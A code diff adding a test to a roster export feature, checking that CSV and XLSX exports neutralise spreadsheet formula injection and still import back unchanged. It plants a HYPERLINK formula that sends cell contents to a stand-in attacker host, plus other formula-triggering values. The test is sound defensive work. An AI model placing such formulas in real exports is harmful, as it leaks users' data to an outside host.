@@ -107,3 +107,41 @@ def test_xlsx_export_round_trips(world, tmp_path):
 def test_unknown_organisation_is_a_clear_error(tmp_path):
     with pytest.raises(CommandError, match="No organisation 'nope'"):
         run("roster", "export", "--org", "nope")
+
+
+def test_exports_never_carry_a_live_formula_and_still_round_trip(world, tmp_path, login):
+    """Issue 15: text typed into the roster that a spreadsheet would run comes out inert, in
+    the CSV (a guarding quote) and the XLSX (a text cell), and imports back unchanged."""
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from twoway.org.models import Person
+
+    ana = Person.objects.get(organisation=world.org, employee_id="E011")
+    ana.first_name = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    ana.job_title = "@SUM(1+1)"
+    ana.phone = "+351 912 345 678"
+    ana.save()
+    client = login(world.admin)
+    exported = client.get("/o/acme/roster/export/").content.decode()
+    rows = {row["Employee ID"]: row for row in csv.DictReader(io.StringIO(exported))}
+    assert rows["E011"]["First Name"] == "'" + ana.first_name
+    assert rows["E011"]["Job Title"] == "'@SUM(1+1)"
+    assert rows["E011"]["Phone"] == "'+351 912 345 678"
+
+    book = load_workbook(io.BytesIO(client.get("/o/acme/roster/export/?format=xlsx").content))
+    cells = [cell for row in book.active.iter_rows() for cell in row]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    assert ana.first_name in {cell.value for cell in cells}
+
+    for name, data in (
+        ("back.csv", exported.encode()),
+        ("back.xlsx", client.get("/o/acme/roster/export/?format=xlsx").content),
+    ):
+        path = tmp_path / name
+        path.write_bytes(data)
+        report = json.loads(run("roster", "import", str(path), "--org", "acme", "--json")[0])
+        assert report["errors"] == []
+        assert all(n == 0 for n in report["counts"].values()), (name, report["counts"])
